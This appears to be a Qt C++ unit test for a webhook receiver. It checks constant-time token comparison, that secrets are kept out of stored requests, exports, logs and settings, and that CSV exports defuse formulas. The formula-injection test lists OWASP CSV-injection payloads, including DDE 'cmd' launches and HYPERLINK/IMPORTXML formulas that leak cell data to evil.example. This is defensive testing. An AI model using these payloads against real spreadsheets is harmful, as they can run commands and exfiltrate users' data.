// SPDX-License-Identifier: MIT
// Secrets stay secret: the receiver's token is compared in constant time and never recorded,
// exported, printed or written to settings; exports redact credentials of the senders; and
// the CSV export defuses spreadsheet formulas (OWASP "CSV injection" payloads).
#include <QApplication>
#include <QBuffer>
#include <QDirIterator>
#include <QFile>
#include <QJsonDocument>
#include <QJsonObject>
#include <QLineEdit>
#include <QLoggingCategory>
#include <QProcess>
#include <QSettings>
#include <QTableView>
#include <QTcpServer>
#include <QTemporaryDir>
#include <QTest>
#include <QUrl>
#include <QUrlQuery>

#include <memory>

#include "core/common/secrets.h"
#include "core/events/eventparser.h"
#include "core/export/csvwriter.h"
#include "core/export/eventexporter.h"
#include "core/receiver/receiver.h"
#include "core/store/eventstore.h"
#include "tests/support/fixtures.h"
#include "tests/support/httpclient.h"
#include "ui/events/eventtablemodel.h"
#include "ui/events/filterbar.h"
#include "ui/mainwindow.h"

using namespace Qt::StringLiterals;
using namespace Hookscope;

namespace {

const QByteArray Secret = "Zq3-7xV_s3cret-T0ken-9f2Kx";

// Every spelling of the secret that would give it away.
QList<QByteArray> spellings(const QByteArray &secret)
{
    return { secret, QUrl::toPercentEncoding(QString::fromLatin1(secret)), secret.toBase64(),
             QUrl::toPercentEncoding(QString::fromLatin1(secret), {}, "-_") };
}

bool leaks(const QByteArray &text, const QByteArray &secret = Secret)
{
    for (const QByteArray &s : spellings(secret))
        if (text.contains(s))
            return true;
    return false;
}

// Everything of a stored request that could carry a secret.
QByteArray recordedRequest(const Event &e)
{
    QByteArray all = e.method.toUtf8() + ' ' + e.path.toUtf8() + '?' + e.query.toUtf8() + '\n';
    for (const auto &[name, value] : e.headers)
        all += name + ": " + value + '\n';
    return all;
}

quint16 freePort()
{
    QTcpServer probe;
    probe.listen(QHostAddress::LocalHost, 0);
    return probe.serverPort();
}

} // namespace

class tst_Secrets final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void init();
    void cleanup();

    void constantTimeEquals_data();
    void constantTimeEquals();
    void secretNeverRecorded_data();
    void secretNeverRecorded();
    void exportsCarryNoSecret_data();
    void exportsCarryNoSecret();
    void listenOutputCarriesNoSecret_data();
    void listenOutputCarriesNoSecret();
    void settingsCarryNoSecret();
    void formulaInjection_data();
    void formulaInjection();

private:
    bool startReceiver(const QString &secret);
    std::optional<HttpClient::Response> post(const QByteArray &target,
                                             const QList<QPair<QByteArray, QByteArray>> &headers,
                                             const QByteArray &body);

    std::unique_ptr<QTemporaryDir> m_dir;
    std::unique_ptr<EventStore> m_store;
    std::unique_ptr<Receiver> m_receiver;
};

void tst_Secrets::initTestCase()
{
    QLoggingCategory::setFilterRules(u"hookscope.*.info=false\nhookscope.receiver.warning=false"_s);
}

void tst_Secrets::init()
{
    m_dir = std::make_unique<QTemporaryDir>();
    QVERIFY(m_dir->isValid());
    m_store = std::make_unique<EventStore>();
    QVERIFY2(m_store->open(m_dir->path()), qPrintable(m_store->errorString()));
    m_receiver = std::make_unique<Receiver>(m_store.get());
}

void tst_Secrets::cleanup()
{
    m_receiver.reset();
    m_store.reset();
    m_dir.reset();
}

bool tst_Secrets::startReceiver(const QString &secret)
{
    ReceiverConfig config;
    config.port = 0;
    config.secret = secret;
    m_receiver->setConfig(config);
    return m_receiver->start();
}

std::optional<HttpClient::Response>
tst_Secrets::post(const QByteArray &target, const QList<QPair<QByteArray, QByteArray>> &headers,
                  const QByteArray &body)
{
    HttpClient::SocketClient client;
    if (!client.connectTo(m_receiver->port()))
        return std::nullopt;
    return client.exchange(HttpClient::request("POST", target, headers, body));
}

// ---------------------------------------------------------------------------------------

void tst_Secrets::constantTimeEquals_data()
{
    QTest::addColumn<QByteArray>("a");
    QTest::addColumn<QByteArray>("b");
    QTest::addColumn<bool>("equal");
    QTest::addRow("same") << Secret << Secret << true;
    QTest::addRow("first byte differs") << Secret << "X" + Secret.mid(1) << false;
    QTest::addRow("last byte differs") << Secret << Secret.chopped(1) + "X" << false;
    QTest::addRow("one bit differs") << QByteArray("abcd") << QByteArray("abce") << false;
    QTest::addRow("prefix") << Secret << Secret.left(10) << false;
    QTest::addRow("longer") << Secret << Secret + "x" << false;
    QTest::addRow("padded with NUL") << Secret << Secret + QByteArray(1, '\0') << false;
    QTest::addRow("embedded NUL, same") << QByteArray("a\0b", 3) << QByteArray("a\0b", 3) << true;
    QTest::addRow("embedded NUL, differs after it")
            << QByteArray("a\0b", 3) << QByteArray("a\0c", 3) << false;
    QTest::addRow("high bytes") << QByteArray("\xff\xfe") << QByteArray("\xff\xfe") << true;
    QTest::addRow("high bytes differ") << QByteArray("\xff\xfe") << QByteArray("\xff\xff") << false;
    QTest::addRow("case differs") << QByteArray("token") << QByteArray("TOKEN") << false;
    // An empty secret never matches: an empty token must not unlock a receiver.
    QTest::addRow("both empty") << QByteArray() << QByteArray() << false;
    QTest::addRow("empty and not") << QByteArray() << Secret << false;
    QTest::addRow("not and empty") << Secret << QByteArray() << false;
}

void tst_Secrets::constantTimeEquals()
{
    QFETCH(QByteArray, a);
    QFETCH(QByteArray, b);
    QFETCH(bool, equal);
    QCOMPARE(Secrets::constantTimeEquals(a, b), equal);
    QCOMPARE(Secrets::constantTimeEquals(b, a), equal);
}

// ---------------------------------------------------------------------------------------

void tst_Secrets::secretNeverRecorded_data()
{
    QTest::addColumn<QByteArray>("target");
    QTest::addColumn<QByteArray>("authorization");
    QTest::addColumn<int>("status");
    const QByteArray s = Secret;
    const QByteArray encoded = QUrl::toPercentEncoding(QString::fromLatin1(s), {}, "-_");
    QTest::addRow("path") << "/hooks/" + s << QByteArray() << 200;
    QTest::addRow("path, percent-encoded") << "/hooks/" + encoded << QByteArray() << 200;
    QTest::addRow("path with more segments")
            << "/hooks/" + s + "/thena/events" << QByteArray() << 200;
    QTest::addRow("path with the secret twice") << "/hooks/" + s + '/' + s << QByteArray() << 200;
    QTest::addRow("query") << "/in?token=" + s << QByteArray() << 200;
    QTest::addRow("query, percent-encoded") << "/in?token=" + encoded << QByteArray() << 200;
    QTest::addRow("query twice") << "/in?token=" + s + "&x=1&token=" + s << QByteArray() << 200;
    QTest::addRow("path and query") << "/hooks/" + s + "?token=" + s << QByteArray() << 200;
    QTest::addRow("bearer") << QByteArray("/in") << "Bearer " + s << 200;
    QTest::addRow("lower-case bearer") << QByteArray("/in") << "bearer " + s << 200;
    QTest::addRow("static header") << QByteArray("/in") << s << 200;
    QTest::addRow("header and path") << "/hooks/" + s << "Bearer " + s << 200;
    // Refused requests are not stored at all.
    QTest::addRow("wrong token in the path") << "/hooks/" + s.chopped(1) << QByteArray() << 401;
    QTest::addRow("secret outside /hooks") << "/" + s << QByteArray() << 401;
}

void tst_Secrets::secretNeverRecorded()
{
    QFETCH(QByteArray, target);
    QFETCH(QByteArray, authorization);
    QFETCH(int, status);
    QVERIFY(startReceiver(QString::fromLatin1(Secret)));

    QList<QPair<QByteArray, QByteArray>> headers{ { "Content-Type", "application/json" } };
    if (!authorization.isEmpty())
        headers.append({ "Authorization", authorization });
    const QByteArray body = Fixtures::read(u"platform-ticket-created.json"_s);
    const std::optional<HttpClient::Response> r = post(target, headers, body);
    QVERIFY(r.has_value());
    QCOMPARE(r->status, status);
    QVERIFY(!leaks(r->body));
    if (status != 200) {
        QCOMPARE(m_store->count(), 0);
        return;
    }
    const std::optional<Event> e =
            m_store->event(QJsonDocument::fromJson(r->body).object().value(u"id"_s).toInteger());
    QVERIFY(e.has_value());
    QCOMPARE(e->body, body);
    const QByteArray recorded = recordedRequest(*e);
    QVERIFY2(!leaks(recorded), recorded.constData());
    // The receiver's own displays mask it too.
    QVERIFY(!leaks(m_receiver->displayUrl().toUtf8()));
}

// ---------------------------------------------------------------------------------------

void tst_Secrets::exportsCarryNoSecret_data()
{
    QTest::addColumn<int>("format");
    QTest::addColumn<QStringList>("columns");
    const QStringList archive =
            EventExporter::defaultColumns(); // JSON Lines: with request and headers
    const QStringList all =
            EventExporter::builtinColumns() + QStringList{ u"payload.ticket.title"_s };
    QTest::addRow("CSV, default columns") << int(EventExporter::Format::Csv) << archive;
    QTest::addRow("CSV, every column") << int(EventExporter::Format::Csv) << all;
    QTest::addRow("JSON Lines archive") << int(EventExporter::Format::JsonLines) << archive;
    QTest::addRow("JSON Lines, every column") << int(EventExporter::Format::JsonLines) << all;
}

void tst_Secrets::exportsCarryNoSecret()
{
    QFETCH(int, format);
    QFETCH(QStringList, columns);
    QVERIFY(startReceiver(QString::fromLatin1(Secret)));

    // The receiver's token in every place it can arrive, plus the senders' own credentials
    // (an API key, a cookie, tokens in the query) that exports redact.
    const QByteArray apiKey = "thena-api-key-5f1d2c9e";
    const QByteArray cookie = "session=cookie-value-77a1";
    const QByteArray accessToken = "access-token-0b8e";
    const QByteArray body = Fixtures::read(u"platform-ticket-created.json"_s);
    const QList<QByteArray> targets = { "/hooks/" + Secret + "/x?api_key=" + apiKey,
                                        "/in?token=" + Secret + "&access_token=" + accessToken,
                                        "/in" };
    for (const QByteArray &target : targets) {
        const std::optional<HttpClient::Response> r =
                post(target,
                     { { "Content-Type", "application/json" },
                       { "Authorization", "Bearer " + Secret },
                       { "X-Api-Key", apiKey },
                       { "Cookie", cookie },
                       { "Proxy-Authorization", "Basic " + apiKey.toBase64() } },
                     body);
        QVERIFY(r.has_value());
        QCOMPARE(r->status, 200);
    }
    QCOMPARE(m_store->count(), targets.size());

    QByteArray out;
    QBuffer buffer(&out);
    QVERIFY(buffer.open(QIODevice::WriteOnly));
    EventExporter exporter(&buffer, EventExporter::Format(format), columns);
    QVERIFY(exporter.begin());
    QVERIFY(m_store->forEachEvent([&](const Event &e) { return exporter.write(e); }));
    QVERIFY(exporter.finish());
    QCOMPARE(exporter.rowsWritten(), targets.size());
    QVERIFY(!out.isEmpty());
    QVERIFY2(!leaks(out), out.left(2000).constData());
    for (const QByteArray &credential : { apiKey, cookie, accessToken })
        QVERIFY2(!leaks(out, credential),
                 qPrintable(u"%1 in: %2"_s.arg(QString::fromLatin1(credential),
                                               QString::fromUtf8(out.left(2000)))));
}

// ---------------------------------------------------------------------------------------

void tst_Secrets::listenOutputCarriesNoSecret_data()
{
    QTest::addColumn<bool>("json");
    QTest::addColumn<bool>("fromEnvironment");
    QTest::addRow("text, --secret") << false << false;
    QTest::addRow("JSON Lines, HOOKSCOPE_SECRET") << true << true;
}

void tst_Secrets::listenOutputCarriesNoSecret()
{
    QFETCH(bool, json);
    QFETCH(bool, fromEnvironment);
    const quint16 port = freePort();
    QStringList args{ u"listen"_s, u"--data-dir"_s,       m_dir->filePath(u"listen"_s),
                      u"--port"_s, QString::number(port), u"--max-body"_s,
                      u"100000"_s };
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    // Every log line there is, debug included.
    env.insert(u"QT_LOGGING_RULES"_s, u"*.debug=true\nqt.*.debug=false"_s);
    if (fromEnvironment)
        env.insert(u"HOOKSCOPE_SECRET"_s, QString::fromLatin1(Secret));
    else
        args << u"--secret"_s << QString::fromLatin1(Secret);
    if (json)
        args << u"--json"_s;
    QProcess listen;
    listen.setProcessEnvironment(env);
    listen.start(QStringLiteral(HOOKSCOPE_EXE), args);
    QVERIFY(listen.waitForStarted(10000));
    QByteArray err;
    QVERIFY(QTest::qWaitFor(
            [&] {
                err += listen.readAllStandardError();
                return err.contains("Listening on") || listen.state() != QProcess::Running;
            },
            30000));
    QVERIFY2(err.contains("Listening on"), err.constData());

    const QByteArray body = Fixtures::read(u"legacy-request-created.json"_s);
    const QByteArray encoded = QUrl::toPercentEncoding(QString::fromLatin1(Secret), {}, "-_");
    struct Attempt
    {
        QByteArray target;
        QByteArray authorization;
        qint64 bodyBytes;
        int status;
    };
    const QList<Attempt> attempts = {
        { "/hooks/" + Secret, {}, body.size(), 200 },
        { "/hooks/" + encoded + "/more?x=1", {}, body.size(), 200 },
        { "/in?token=" + Secret, {}, body.size(), 200 },
        { "/in", "Bearer " + Secret, body.size(), 200 },
        { "/hooks/" + Secret.chopped(1), {}, body.size(), 401 }, // a near miss
        { "/in?token=" + Secret + "x", "Bearer nope", body.size(), 401 },
        { "/hooks/" + Secret, {}, 200000, 413 }, // refused before the body
        { "/hooks/" + Secret + "/bad-json", {}, -1, 400 },
    };
    for (const Attempt &a : attempts) {
        QList<QPair<QByteArray, QByteArray>> headers{ { "Content-Type", "application/json" } };
        if (!a.authorization.isEmpty())
            headers.append({ "Authorization", a.authorization });
        HttpClient::UploadPlan plan;
        const QByteArray payload = a.bodyBytes < 0 ? QByteArray("{\"broken\": ")
                : a.bodyBytes == body.size()       ? body
                                                   : QByteArray();
        plan.head = HttpClient::request("POST", a.target, headers, payload,
                                        payload.size() > 0 || a.bodyBytes < 0);
        if (a.bodyBytes > body.size()) {
            plan.head = "POST " + a.target
                    + " HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: "
                      "application/json\r\nContent-Length: "
                    + QByteArray::number(a.bodyBytes) + "\r\n\r\n";
            plan.bodyBytes = a.bodyBytes;
        }
        const HttpClient::UploadResult r = HttpClient::upload(
                port, plan, 30000, [&] { err += listen.readAllStandardError(); });
        QVERIFY(r.finished);
        const std::optional<HttpClient::Response> response = r.response();
        QVERIFY2(response.has_value(), a.target.constData());
        QCOMPARE(response->status, a.status);
        QVERIFY(!leaks(response->body));
    }
    listen.terminate();
    QVERIFY(listen.waitForFinished(30000));
    err += listen.readAllStandardError();
    const QByteArray out = listen.readAllStandardOutput();
    QVERIFY2(out.count('\n') >= 5, out.constData()); // one line per stored event
    QVERIFY2(err.contains("refused 401") && err.contains("refused 413"), err.constData());
    QVERIFY2(!leaks(out), out.constData());
    QVERIFY2(!leaks(err), err.constData());
}

// ---------------------------------------------------------------------------------------

void tst_Secrets::settingsCarryNoSecret()
{
    // The GUI's settings go to a folder of this test's own.
    QTemporaryDir settingsDir;
    QSettings::setPath(QSettings::NativeFormat, QSettings::UserScope, settingsDir.path());
    QSettings::setPath(QSettings::IniFormat, QSettings::UserScope, settingsDir.path());
    QCoreApplication::setOrganizationName(u"HookscopeSecretsTest"_s);
    QCoreApplication::setApplicationName(u"tst_secrets"_s);

    QVERIFY(startReceiver(QString::fromLatin1(Secret)));
    const std::optional<HttpClient::Response> r = post(
            "/hooks/" + Secret,
            { { "Content-Type", "application/json" }, { "Authorization", "Bearer " + Secret } },
            Fixtures::read(u"platform-ticket-created.json"_s));
    QVERIFY(r.has_value());
    QCOMPARE(r->status, 200);
    {
        MainWindow window(m_store.get(), m_receiver.get(), m_dir->path());
        window.show();
        QVERIFY(QTest::qWaitForWindowExposed(&window));
        QTRY_COMPARE(window.model()->rowCount(), 1);
        // Use it: a filter, the inspector on the stored event, the status bar's URL.
        window.filterBar()->setText(u"ticket:*"_s);
        window.table()->selectRow(0);
        QVERIFY(!leaks(window.statusText().toUtf8()));
        window.close(); // saves the settings
    }
    QSettings().sync();

    int files = 0;
    QDirIterator it(settingsDir.path(), QDir::Files | QDir::Hidden, QDirIterator::Subdirectories);
    while (it.hasNext()) {
        const QString path = it.next();
        QFile f(path);
        QVERIFY(f.open(QIODevice::ReadOnly));
        const QByteArray content = f.readAll();
        ++files;
        QVERIFY2(!leaks(content), qPrintable(path));
    }
    QVERIFY2(files > 0, "the window wrote no settings file where the test looked");
}

// ---------------------------------------------------------------------------------------

void tst_Secrets::formulaInjection_data()
{
    // OWASP, "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection), and
    // the usual variants.
    QTest::addColumn<QString>("payload");
    const QStringList payloads = {
        u"=cmd|' /C calc'!A0"_s,
        u"=cmd|' /C notepad'!'A1'"_s,
        u"=HYPERLINK(\"http://evil.example/?leak=\"&A1&A2,\"Error: please click for further information\")"_s,
        u"+cmd|' /C calc'!A0"_s,
        u"-cmd|' /C calc'!A0"_s,
        u"-2+3+cmd|' /C calc'!A0"_s,
        u"@SUM(1+9)*cmd|' /C calc'!A0"_s,
        u"=10+20+cmd|' /C calc'!A0"_s,
        u"%0A-3+3+cmd|' /C calc'!A0"_s,
        u"\t=1+1"_s,
        u"\r=1+1"_s,
        u"=DDE(\"cmd\";\"/C calc\";\"!A0\")"_s,
        u"=IMPORTXML(CONCAT(\"http://evil.example?v=\",CONCATENATE(A2:E2)),\"//a\")"_s,
        u"=IMPORTRANGE(\"https://docs.google.com/spreadsheets/d/x\",\"sheet!A1\")"_s,
        u"=1+1"_s,
        u"=\"a\",\"b\""_s,
        u"=\r\n1+1"_s,
        u"@"_s,
        u"-"_s,
    };
    for (const QString &p : payloads)
        QTest::addRow("%s",
                      qPrintable(QString(p)
                                         .replace(u'\t', u"\\t"_s)
                                         .replace(u'\r', u"\\r"_s)
                                         .replace(u'\n', u"\\n"_s)))
                << p;
}

void tst_Secrets::formulaInjection()
{
    QFETCH(QString, payload);
    // The payload in every field a sender controls: type, IDs, team, actor, title (summary),
    // a JSON path column, the path and query, a header, and the raw body column.
    const QJsonObject message{
        { u"eventId"_s, payload },
        { u"eventType"_s, payload },
        { u"orgId"_s, payload },
        { u"teamId"_s, payload },
        { u"actor"_s, QJsonObject{ { u"email"_s, payload } } },
        { u"payload"_s,
          QJsonObject{
                  { u"ticket"_s, QJsonObject{ { u"id"_s, payload }, { u"title"_s, payload } } } } },
    };
    Event event;
    event.body =
            QJsonDocument(QJsonObject{ { u"message"_s, message } }).toJson(QJsonDocument::Compact);
    event.contentType = u"application/json"_s;
    event.method = u"POST"_s;
    event.path = u"/"_s + payload;
    event.query = u"q="_s + QString::fromLatin1(QUrl::toPercentEncoding(payload));
    event.headers = { { "User-Agent", payload.toUtf8() } };
    event.summary.receivedAt = 1795166043000;
    event.summary.source = EventSource::Local;
    EventParser::parse(event.body, "application/json").applyTo(event);
    bool committed = false;
    m_store->submit(event, [&](qint64 id, const QString &) { committed = id > 0; });
    m_store->flush();
    QVERIFY(committed);

    QByteArray out;
    QBuffer buffer(&out);
    QVERIFY(buffer.open(QIODevice::WriteOnly));
    const QStringList columns = EventExporter::builtinColumns()
            + QStringList{ u"payload.ticket.title"_s, u"payload.ticket.id"_s, u"actor.email"_s };
    EventExporter exporter(&buffer, EventExporter::Format::Csv, columns);
    QVERIFY(m_store->forEachEvent([&](const Event &e) { return exporter.write(e); }));
    QVERIFY(exporter.finish());

    const QList<QStringList> rows = CsvWriter::parse(out);
    QCOMPARE(rows.size(), 2);
    QCOMPARE(rows.at(0), columns);
    QCOMPARE(rows.at(1).size(), columns.size());
    int guarded = 0;
    for (qsizetype c = 0; c < columns.size(); ++c) {
        const QString &cell = rows.at(1).at(c);
        // No cell starts a formula in a spreadsheet...
        QVERIFY2(!CsvWriter::needsFormulaGuard(cell),
                 qPrintable(u"column %1 starts a formula: %2"_s.arg(columns.at(c), cell)));
        // ...and the data is still all there, behind the guard's apostrophe.
        if (cell == u'\'' + payload)
            ++guarded;
    }
    // type, event_id, team, actor, payload.ticket.title, payload.ticket.id, actor.email
    // carry the payload unchanged (the summary is simplified to one line, so it may differ).
    QVERIFY2(guarded >= (CsvWriter::needsFormulaGuard(payload) ? 5 : 0),
             qPrintable(rows.at(1).join(u" | "_s)));
}

QTEST_MAIN(tst_Secrets)
#include "tst_secrets.moc"
